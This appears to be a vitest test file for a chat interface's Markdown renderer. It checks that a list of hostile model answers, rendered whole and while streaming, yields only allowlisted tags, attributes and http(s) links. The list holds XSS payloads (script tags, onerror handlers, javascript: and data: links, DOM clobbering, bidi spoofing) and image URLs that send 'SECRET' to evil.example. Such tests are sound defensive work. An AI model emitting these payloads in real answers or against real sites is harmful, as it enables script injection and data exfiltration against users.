/**
 * @file What a hostile answer can put on the page: words. Every payload is drawn whole and at each
 * letter of its coming, since what is half there may mean what the whole never does.
 */
import { parseHTML } from "linkedom";
import { beforeAll, describe, expect, test } from "vitest";

const payloads = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  '<img src="https://evil.example/?q=SECRET">',
  "<svg/onload=alert(1)>",
  "<svg><animate onbegin=alert(1) attributeName=x></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<form action="https://evil.example"><button>Go</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  "<style>@import 'https://evil.example/x.css';</style>",
  '<link rel="prefetch" href="https://evil.example/x">',
  "[x](javascript:alert(1))",
  "[x](<javascript:alert(1)>)",
  "[x](JaVaScRiPt&#58;alert(1))",
  "[x](java&Tab;script&colon;alert(1))",
  "[x](&#1;javascript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](vbscript:msgbox)",
  "[x](/admin) [y](//evil.example) [z](?a=1) [w](#id)",
  "[x][1]\n\n[1]: javascript:alert(1)",
  "[x]\n\n[x]: data:text/html,x",
  "<javascript:alert(1)> <data:text/html,x> javascript:alert(1)",
  "<a@evil.example> a@evil.example [m](mailto:a@evil.example)",
  "![x](https://evil.example/?q=SECRET)",
  "![x][1]\n\n[1]: https://evil.example/?q=SECRET",
  "[![x](https://evil.example/a.png)](https://evil.example/b)",
  "| ![x](https://evil.example/?q=1) |\n|---|\n| ![y](https://evil.example/?q=2) |",
  "# ![x](https://evil.example/?q=1) <img src=x>",
  "text[^1]\n\n[^1]: ![x](https://evil.example/?q=1)",
  '<a href="&#1;javascript:alert(1)">x</a>',
  "<!--><img src=x onerror=alert(1)>-->",
  "```\n<img src=x onerror=alert(1)>",
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '```mermaid\nclick A "javascript:alert(1)"\nA["<img src=x onerror=alert(1)>"]\n```',
  "$\\href{javascript:alert(1)}{x}$ $\\includegraphics{https://evil.example}$ $\\url{https://a}$",
  "$$\\htmlId{config}{x}\\htmlStyle{color:red}{y}\\htmlData{a=b}{z}$$",
  "\u001b[31mred\u001b[0m \u001b]8;;https://evil.example\u0007x",
  "user\u202egnp.exe \u2066x\u2069",
  "<a id=config></a><form name=document><input name=cookie>",
  "[https://bank.example](https://evil.example)",
  "[bank.example/login](https://bank.example@evil.example)",
  '[x](https://a.example "onmouseover=alert(1)") [y](https://a.example/"onclick="alert(1))',
  "[__proto__][constructor]\n\n[__proto__]: https://a.example\n[constructor]: https://a.example",
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
  "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
  "<div style=background:url(https://evil.example)>**x**</div>",
];

const allowed =
  /^(a|blockquote|br|button|code|del|div|em|figcaption|figure|h[3-6]|hr|input|li|ol|p|pre|section|span|strong|table|tbody|td|th|thead|tr|ul)$/;
const attributes =
  /^(class|dir|href|rel|target|type|disabled|checked|start|scope|aria-label|aria-live|tabindex|hidden)$/;

type Draw = (text: string, streaming: boolean) => Iterable<Drawn>;
type Drawn = { localName: string; attributes: Iterable<{ name: string; value: string }> };
let draw: Draw = () => [];

beforeAll(async () => {
  draw = await drawing();
});

/** Draws through Preact on a document of linkedom's. The page is outside of these tests' types. */
async function drawing(): Promise<Draw> {
  const { document } = parseHTML("<html><body><main></main></body></html>");
  Object.assign(globalThis, { document });
  const [preact, page] = ["preact", "../../../src/arena/page/markdown/markdown.tsx"];
  const { h, render } = await import(preact);
  const { Markdown } = await import(page);
  return (text, streaming) => {
    const place = document.createElement("main");
    render(h(Markdown, { text, streaming }), place);
    return place.querySelectorAll("*");
  };
}

function problems(text: string, streaming: boolean): string[] {
  return [...draw(text, streaming)].flatMap((element) => [
    ...(allowed.test(element.localName) ? [] : [element.localName]),
    ...[...element.attributes].flatMap(({ name, value }) => {
      if (!attributes.test(name.toLowerCase())) return [`${element.localName} ${name}`];
      return name === "href" && !/^https?:\/\/[^@]*$/.test(value) ? [value] : [];
    }),
  ]);
}

describe("A hostile answer", () => {
  test.each(payloads)("%j", (payload) => {
    expect(problems(payload, false)).toEqual([]);
    for (let end = 0; end <= payload.length; end++) {
      expect(problems(payload.slice(0, end), true)).toEqual([]);
      expect(problems(payload.slice(0, end), false)).toEqual([]);
    }
  });

  test("is drawn at all", () => {
    const names = [...draw("**a** [b](https://a.example)", false)].map(
      ({ localName }) => localName,
    );
    expect(names).toEqual(["div", "p", "strong", "a"]);
    const [, , link] = draw("[b](https://a.example)", false);
    expect(
      Object.fromEntries([...(link?.attributes ?? [])].map((one) => [one.name, one.value])),
    ).toEqual({
      href: "https://a.example/",
      target: "_blank",
      rel: "noopener noreferrer nofollow ugc",
    });
  });

  test("cannot hide where a link leads", () => {
    const [element] = draw("[https://bank.example](https://evil.example)", false);
    expect(String((element as { textContent?: string } | undefined)?.textContent)).toContain(
      "(evil.example)",
    );
  });
});
